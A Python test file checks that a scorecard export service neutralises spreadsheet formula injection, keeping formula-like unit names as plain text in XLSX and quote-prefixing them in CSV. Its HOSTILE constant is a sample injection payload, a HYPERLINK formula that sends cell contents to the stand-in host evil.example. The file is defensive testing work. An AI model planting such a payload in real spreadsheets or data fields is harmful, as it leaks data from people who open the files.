"""Scorecard exports never carry a live formula (security review M1; Art. 31's 考核结果 tables).

A unit's name is free text that any unit admin sets; opened in Excel or WPS by the district office,
a name such as `=HYPERLINK(…)` would run. The exports keep it as the text it is.
"""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook  # type: ignore[import-untyped]

from services.assessment.scoring.export import HEADER, to_csv, to_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
ROW_WIDTH = len(HEADER)


def _table(name: str) -> list[list[object]]:
    return [["QX-TH", name, 2026, "QX", "草稿 draft", *([0.0] * (ROW_WIDTH - 7)), -2.5, "合格"]]


def test_a_formula_like_name_is_plain_text_in_the_xlsx() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(_table(HOSTILE), 2026)))
    cell = book.active.cell(2, 2)
    assert cell.data_type == "s"  # a string cell: Excel shows it, never evaluates it
    assert cell.value == HOSTILE  # as the unit admin typed it
    assert book.active.cell(2, ROW_WIDTH - 1).value == -2.5  # numbers stay numbers


def test_a_formula_like_name_is_quoted_in_the_csv() -> None:
    for start in ("=", "+", "-", "@", "\t"):
        text = to_csv(_table(f"{start}cmd")).decode("utf-8-sig")
        name = list(csv.reader(io.StringIO(text)))[1][1]
        assert name == f"'{start}cmd"
    plain = to_csv(_table("太和镇")).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(plain)))[1][1] == "太和镇"
